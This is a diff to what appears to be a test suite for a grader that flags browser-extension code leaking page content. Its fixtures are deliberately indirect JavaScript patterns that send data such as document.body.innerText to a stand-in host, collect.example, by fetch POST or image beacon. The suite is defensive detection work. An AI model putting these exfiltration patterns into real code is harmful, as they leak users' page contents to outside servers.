@@ -89,6 +89,21 @@ it.each<[string, (data: string) => string]>([
       `const jobs = []; const job = (name) => (C) => { const it = new C(); jobs.push({ name, run: (x) => it.run(x) }); }; let Send = class Send { run(x) { ${send('x')}; } }; Send = __decorate([job('send')], Send); (async () => { const one = jobs.find((j) => j.name === 'send'); one.run(await ${data}); })();`,
   ],
   [
+    'events that say their own name, out of generators',
+    (data) =>
+      `class App { #commands = new Map(); #events = new EventTarget(); command(n, f) { this.#commands.set(n, f); } on(t, f) { this.#events.addEventListener(t, (e) => f(e.detail)); } tell(n, a) { for (const one of this.#commands.get(n)?.(a) ?? []) this.#events.dispatchEvent(new CustomEvent(one.type, { detail: one })); } } const app = new App(); app.command('keep', function* ({ all }) { yield { type: 'kept', all }; }); app.on('kept', ({ all }) => ${send('all')}); (async () => app.tell('keep', { all: await ${data} }))();`,
+  ],
+  [
+    'parts that are set up with the application itself',
+    (data) =>
+      `const Send = { setup(app) { app.on('all', (l) => ${send('l')}); } }; class App { constructor(parts) { this.on_ = {}; parts.forEach((part) => part.setup(this)); } on(t, f) { this.on_[t] = f; } emit(t, v) { this.on_[t](v); } } const app = new App([Send]); (async () => app.emit('all', await ${data}))();`,
+  ],
+  [
+    'events that are kept and folded by a table of functions',
+    (data) =>
+      `class Store { constructor() { this.events = []; this.hears = new Set(); } async append(type, data) { this.events = [...this.events.slice(-50), Object.freeze({ type, data })]; for (const one of this.hears) await one(type, this); } subscribe(f) { this.hears.add(f); } project({ initial, on }) { return this.events.reduce((all, e) => (on[e.type] ? on[e.type](all, e.data) : all), initial()); } } const trail = { initial: () => [], on: { Seen: (all, { what }) => [...all, what], Gone: () => [] } }; const policy = ({ deliver }) => async (type, store) => deliver(store.project(trail)); const to = (url) => async (all) => { await fetch(url, { method: 'POST', body: JSON.stringify(all) }); }; const store = new Store(); store.subscribe(policy({ deliver: to('https://collect.example/x') })); (async () => store.append('Seen', { what: await ${data} }))();`,
+  ],
+  [
     'a channel that a promise gives',
     (data) =>
       `let channel = null; async function connect() { const pc = new RTCPeerConnection(); const ch = pc.createDataChannel('x'); return new Promise((done) => { ch.onopen = () => done(ch); }); } (async () => { channel = channel || (await connect()); channel.send(JSON.stringify(await ${data})); })();`,
@@ -167,4 +182,19 @@ it('what people write to one another is theirs on whatever site', async () => {
     });
   expect(await on('mail.google.com')).toMatch(/^[CDF]/);
   expect(await on('www.shop.test')).toMatch(/^A/);
+});
+
+it('a port that a private method opens', async () => {
+  const content = (data: string): string =>
+    `class Channel { #port = null; #open() { const port = chrome.runtime.connect({ name: 'x' }); return (this.#port = port); } send(body) { (this.#port ?? this.#open()).postMessage({ body }); } } new Channel().send(${data});`;
+  const background = `chrome.runtime.onConnect.addListener((port) => port.onMessage.addListener(({ body }) => ${send('body')}));`;
+  expect(await graded({ content: content('document.body.innerText'), background })).toMatch(/^[DF]/);
+  expect(await graded({ content: content("'ready'"), background })).toMatch(/^A/);
+});
+
+it('a picture whose attributes are set from a table', async () => {
+  const content = (data: string): string =>
+    `const probe = (all) => { const img = new Image(); Object.keys(all).forEach((name) => img.setAttribute(name, all[name])); return img; }; probe({ width: 1, src: 'https://collect.example/t.gif?k=' + encodeURIComponent(${data}) });`;
+  expect(await graded({ content: content('document.body.innerText') })).toMatch(/^[CDF]/);
+  expect(await graded({ content: content("'ready'") })).toMatch(/^A/);
 });
